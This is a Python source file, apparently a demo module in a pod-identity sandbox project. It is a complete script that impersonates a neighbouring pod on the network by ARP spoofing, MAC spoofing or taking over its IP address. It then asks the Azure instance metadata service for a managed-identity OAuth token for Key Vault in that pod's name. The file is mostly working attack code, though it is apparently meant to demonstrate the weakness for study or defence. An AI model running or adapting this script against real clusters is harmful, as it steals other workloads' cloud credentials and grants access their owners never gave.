"""The pod next door: takes its neighbour's address and asks IMDS for a token in its name.

    python3 -m podidentity_sandbox.demo.forger --trick arp|mac|address --claim ADDRESS

`arp` tells the gateway that the neighbour's address is at our MAC address; `mac` sends from the
neighbour's own, so that the bridge moves it to our port; both by raw frames, for which CAP_NET_RAW
is enough. `address` takes it as a second address and uses an ordinary socket (CAP_NET_ADMIN).
Prints `{"status": …, "body": …}`, the answer that came back; fails where none did.
"""

from __future__ import annotations

import argparse
import json
import socket
import struct
import subprocess
import sys
import time
from pathlib import Path

from podidentity_sandbox.demo.frames import Gateway, Wire

IMDS = ("169.254.169.254", 80)
TOKEN = "/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://vault.azure.net"  # noqa: S105 - a path


def gateway() -> str:
    for line in Path("/proc/net/route").read_text().splitlines()[1:]:
        fields = line.split()
        if fields[1] == "00000000":
            return socket.inet_ntoa(struct.pack("<I", int(fields[2], 16)))
    raise OSError("no default route")


def own(interface: str = "eth0") -> tuple[bytes, str]:
    """Return our own MAC address, and our own address towards the gateway."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as probe:
        probe.bind((interface, 0))
        mac = bytes(probe.getsockname()[4])
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect((gateway(), 9))
        return mac, probe.getsockname()[0]


def by_address(claim: str, request: bytes, seconds: float) -> bytes:
    """Take the address as a second one, announce it, and use an ordinary socket."""
    subprocess.run(["ip", "addr", "add", f"{claim}/32", "dev", "eth0"], check=True)
    wire = Wire(own()[0], claim)
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        wire.request_arp(gateway())
        with socket.socket() as client:
            client.settimeout(0.5)
            client.bind((claim, 0))
            try:
                client.connect(IMDS)
                client.sendall(request)
                return client.recv(65535)
            except OSError:
                continue
    raise TimeoutError("no conversation came about")


def answer(trick: str, claim: str, request: bytes, seconds: float, port: int = 0) -> bytes:
    """Return what came back for `request`, sent in the name of `claim`, from `port` if given."""
    if trick == "address":
        return by_address(claim, request, seconds)
    mac, address = own()
    honest, deadline = Wire(mac, address), time.monotonic() + seconds
    via = Gateway(gateway(), honest.resolve(gateway(), deadline))
    if trick == "mac":
        mac = honest.resolve(claim, deadline)
    return Wire(mac, claim).converse(IMDS, via, request, seconds, port=port)


def main() -> None:
    options = argparse.ArgumentParser(description=__doc__)
    options.add_argument("--trick", choices=["arp", "mac", "address"], required=True)
    options.add_argument("--claim", required=True, metavar="ADDRESS")
    options.add_argument("--seconds", type=float, default=15, help="how long to try")
    options.add_argument("--path", default=TOKEN, help="what to ask IMDS for")
    options.add_argument("--port", type=int, default=0, help="the port to send from")
    asked = options.parse_args()
    host = f"Host: {IMDS[0]}\r\nMetadata: true\r\nConnection: close\r\n"
    request = f"GET {asked.path} HTTP/1.1\r\n{host}\r\n".encode()
    try:
        came = answer(asked.trick, asked.claim, request, asked.seconds, asked.port)
    except TimeoutError as nothing:
        sys.exit(f"no answer: {nothing}")
    head, _, body = came.partition(b"\r\n\r\n")
    print(json.dumps({"status": int(head.split()[1]), "body": body.decode()}))  # noqa: T201 - its answer


if __name__ == "__main__":
    main()
